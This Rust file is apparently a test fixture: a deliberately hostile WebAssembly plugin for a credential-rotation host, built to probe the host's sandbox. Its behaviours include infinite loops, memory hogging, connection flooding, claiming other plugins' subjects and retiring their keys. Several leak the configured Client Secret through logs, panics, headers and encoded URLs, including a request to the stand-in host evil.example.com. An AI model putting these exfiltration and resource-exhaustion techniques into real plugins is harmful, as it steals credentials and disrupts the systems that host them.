//! A plugin that misbehaves on purpose. The config record's `behaviour` field
//! picks how: `spin` loops forever, `hog` grabs memory, `sleep` sleeps forever,
//! `hammer` retries `AWS Endpoint URL` with a ten-minute backoff, `foreign` calls
//! the URL in `target` (not in its allowlist), `fetch` reads `AWS Endpoint URL`
//! (allowed), `header` sends the header named in `target` to it, `ambient`
//! tries files, environment, sockets and name lookups, `panic-secret` panics with the config's
//! Client Secret, `log-secret` logs it and returns it in an error, `smuggle`
//! puts it, encoded, in a URL, a header, a log line and an error, and
//! `finalize-spin` and `rollback-spin` rotate, then loop forever in that call.
//! `tcp` connects to `target` (`host:port`) through the `tcp` import, sends a
//! line and reads to the end (`tcp-tls` after `start-tls`; `tcp-many` opens
//! connections until one is refused), reporting what came back in its error.
//! `host-field` returns a staged field aliased `Rotation Config`, the host's own.
//! `info` and `config-schema` take no config: the features `spin-in-info` and
//! `spin-in-config-schema` build a component that loops forever there.

#![cfg(target_arch = "wasm32")]

mod bindings {
    wit_bindgen::generate!({ world: "plugin", path: "../../../wit" });
}

use bindings::pam::rotation::{log, outbound, tcp, types as wit};

struct Hostile;

/// Every byte but letters and digits as `%xx`, lower case.
fn percent(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02x}")
            }
        })
        .collect()
}

/// Every character as a JSON `\uXXXX` escape.
fn json_escaped(s: &str) -> String {
    s.chars().map(|c| format!("\\u{:04x}", c as u32)).collect()
}

fn value(record: &wit::VaultRecord, label: &str) -> String {
    record
        .fields
        .iter()
        .find(|f| {
            f.label
                .as_deref()
                .is_some_and(|l| l.eq_ignore_ascii_case(label))
        })
        .and_then(|f| f.values.first().cloned())
        .unwrap_or_default()
}

fn get(url: String) -> String {
    get_with(url, vec![])
}

fn get_with(url: String, headers: Vec<(String, String)>) -> String {
    let request = outbound::Request {
        method: "GET".into(),
        url,
        headers,
        body: vec![],
    };
    match outbound::send(&request) {
        Ok(r) => format!("status {} with {} bytes", r.status, r.body.len()),
        Err(e) => format!("send error: {e:?}"),
    }
}

/// Loops forever, doing nothing the compiler may remove.
fn spin() -> ! {
    let mut n = 0u64;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
    }
}

/// A well-formed new key, for the behaviours that misbehave after `rotate`.
fn a_new_key() -> wit::Rotation {
    wit::Rotation {
        fields: vec![wit::OutputField {
            label: "aws_access_key_id".into(),
            aliases: vec![],
            kind: wit::ValueKind::Text,
            value: "AKIAHOSTILE000000002".into(),
        }],
        created: Some("AKIAHOSTILE000000002".into()),
        retire: vec![],
        deleted: vec![],
        notes: vec![],
        staged: false,
    }
}

/// What a `tcp` behaviour saw: the bytes that came back, or the error.
fn tcp_exchange(behaviour: &str, target: &str) -> String {
    let Some((host, port)) = target.rsplit_once(':') else {
        return format!("target '{target}' is not host:port");
    };
    let port: u16 = port.parse().unwrap_or(0);
    let outcome = (|| -> Result<Vec<u8>, tcp::TcpError> {
        if behaviour == "tcp-many" {
            let mut open = Vec::new();
            loop {
                open.push(tcp::connect(host, port)?);
            }
        }
        let conn = tcp::connect(host, port)?;
        if behaviour == "tcp-tls" {
            conn.start_tls()?;
        }
        conn.send(b"ping\n")?;
        let mut got = Vec::new();
        loop {
            let chunk = conn.receive(65_536)?;
            if chunk.is_empty() {
                return Ok(got);
            }
            got.extend(chunk);
        }
    })();
    match outcome {
        Ok(bytes) => format!(
            "tcp got {} bytes: {}",
            bytes.len(),
            String::from_utf8_lossy(&bytes[..bytes.len().min(64)])
        ),
        Err(e) => format!("tcp error: {e:?}"),
    }
}

impl bindings::Guest for Hostile {
    fn info() -> wit::PluginInfo {
        if cfg!(feature = "spin-in-info") {
            spin();
        }
        wit::PluginInfo {
            name: "Hostile".into(),
            summary: "misbehaves".into(),
            version: "0".into(),
            can_rollback: false,
            allowed_hosts: vec!["https://*.amazonaws.com".into()],
            credential_id_fields: vec!["aws_access_key_id".into()],
        }
    }

    /// Each record is its own subject, so hostile records never collide,
    /// unless the config says whose subject to claim.
    fn subject(ctx: wit::Context) -> Result<wit::Subject, wit::PluginError> {
        if value(&ctx.config, "behaviour") == "subject-spin" {
            spin();
        }
        if value(&ctx.config, "behaviour") == "subject-leak" {
            let secret = value(&ctx.config, "Client Secret");
            log::log(log::Level::Error, &format!("subject sees {secret}"));
            return Err(wit::PluginError::Failed(format!("leaked {secret}")));
        }
        // Claims another plugin's subject, `SERVICE|LOGIN`, to collide with its records.
        if let Some((service, login)) = value(&ctx.config, "subject-as").split_once('|') {
            return Ok(wit::Subject {
                service: service.into(),
                login: login.into(),
                fixed_by_config: true,
            });
        }
        Ok(wit::Subject {
            service: "hostile".into(),
            login: ctx.user.uid,
            fixed_by_config: true,
        })
    }

    fn config_schema() -> Vec<wit::ConfigItem> {
        if cfg!(feature = "spin-in-config-schema") {
            spin();
        }
        vec![wit::ConfigItem {
            id: "endpoint".into(),
            label: "AWS Endpoint URL".into(),
            desc: "allowed host".into(),
            is_secret: false,
            item_type: wit::ItemType::Url,
            default_value: None,
            enum_values: vec![],
            required: false,
        }]
    }

    fn rotate(ctx: wit::Context) -> Result<wit::Rotation, wit::PluginError> {
        let secret = value(&ctx.config, "Client Secret");
        match value(&ctx.config, "behaviour").as_str() {
            "spin" => spin(),
            "finalize-spin" | "rollback-spin" => Ok(a_new_key()),
            "hog" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "sleep" => loop {
                std::thread::sleep(std::time::Duration::from_secs(3600));
            },
            "hammer" => loop {
                let _ = get(value(&ctx.config, "AWS Endpoint URL"));
                std::thread::sleep(std::time::Duration::from_secs(600));
            },
            "header" => {
                let url = value(&ctx.config, "AWS Endpoint URL");
                let header = (value(&ctx.config, "target"), "evil".to_string());
                Err(wit::PluginError::Failed(get_with(url, vec![header])))
            }
            "smuggle" => {
                let url = value(&ctx.config, "AWS Endpoint URL");
                let _ = get(format!("{url}/?k={}", percent(&secret)));
                let _ = get(format!("https://evil.example.com/?k={}", percent(&secret)));
                let _ = get_with(url, vec![("x-leak".into(), secret.clone())]);
                log::log(
                    log::Level::Error,
                    &format!("{{\"k\": \"{}\"}}", json_escaped(&secret)),
                );
                Err(wit::PluginError::Failed(format!("k={}", percent(&secret))))
            }
            "foreign" => Err(wit::PluginError::Failed(get(value(&ctx.config, "target")))),
            "fetch" => Err(wit::PluginError::Failed(get(value(
                &ctx.config,
                "AWS Endpoint URL",
            )))),
            "ambient" => {
                let files = std::fs::read_dir("/")
                    .map(|d| d.count())
                    .map_err(|e| e.kind());
                let env = std::env::vars().count();
                let socket = std::net::TcpStream::connect(
                    value(&ctx.config, "target").trim_start_matches("http://"),
                )
                .map(|_| ())
                .map_err(|e| e.kind());
                let lookup = std::net::ToSocketAddrs::to_socket_addrs(&("localhost", 80))
                    .map(|a| a.count())
                    .map_err(|e| e.kind());
                Err(wit::PluginError::Failed(format!(
                    "files: {files:?}; env: {env}; socket: {socket:?}; lookup: {lookup:?}"
                )))
            }
            // Asks the host to retire every id it is told another record holds.
            "retire-held" => Ok(wit::Rotation {
                fields: vec![wit::OutputField {
                    label: "aws_access_key_id".into(),
                    aliases: vec![],
                    kind: wit::ValueKind::Text,
                    value: "AKIAHOSTILE000000001".into(),
                }],
                created: Some("AKIAHOSTILE000000001".into()),
                retire: value(&ctx.config, "target")
                    .split(',')
                    .map(str::to_string)
                    .collect(),
                deleted: vec![],
                notes: vec![],
                staged: false,
            }),
            // Asks the host to store a field the host keeps: `Rotation Config`
            // pointed at the config its `target` names.
            "host-field" => Ok(wit::Rotation {
                fields: vec![wit::OutputField {
                    label: "password".into(),
                    aliases: vec!["rotation config".into()],
                    kind: wit::ValueKind::Text,
                    value: value(&ctx.config, "target"),
                }],
                staged: true,
                ..a_new_key()
            }),
            // A megabyte of stderr, in lines of 100 bytes.
            "chatter" => {
                use std::io::Write;
                let line = format!("{}\n", "x".repeat(99));
                for _ in 0..10_000 {
                    let _ = std::io::stderr().write_all(line.as_bytes());
                }
                Err(wit::PluginError::Failed("chattered".into()))
            }
            "tcp" | "tcp-tls" | "tcp-many" => Err(wit::PluginError::Failed(tcp_exchange(
                &value(&ctx.config, "behaviour"),
                &value(&ctx.config, "target"),
            ))),
            "panic-secret" => panic!("leaking {secret}"),
            "log-secret" => {
                log::log(log::Level::Error, &format!("the secret is {secret}"));
                Err(wit::PluginError::Failed(format!("secret {secret}")))
            }
            other => Err(wit::PluginError::InvalidConfig(format!(
                "unknown behaviour '{other}'"
            ))),
        }
    }

    /// Reports what it was asked to retire.
    fn finalize(
        ctx: wit::Context,
        done: wit::Rotation,
    ) -> Result<wit::Finalized, wit::PluginError> {
        if value(&ctx.config, "behaviour") == "finalize-spin" {
            spin();
        }
        Err(wit::PluginError::Failed(format!(
            "asked to retire [{}]",
            done.retire.join(",")
        )))
    }

    fn rollback(ctx: wit::Context, _: wit::Rotation) -> Result<(), wit::PluginError> {
        if value(&ctx.config, "behaviour") == "rollback-spin" {
            spin();
        }
        Ok(())
    }

    fn last_used(_: wit::Context) -> Result<Vec<wit::CredentialUse>, wit::PluginError> {
        Err(wit::PluginError::Failed("not used".into()))
    }

    fn purge(_: wit::Context) -> Result<wit::Finalized, wit::PluginError> {
        Err(wit::PluginError::Failed("not used".into()))
    }
}

bindings::export!(Hostile with_types_in bindings);
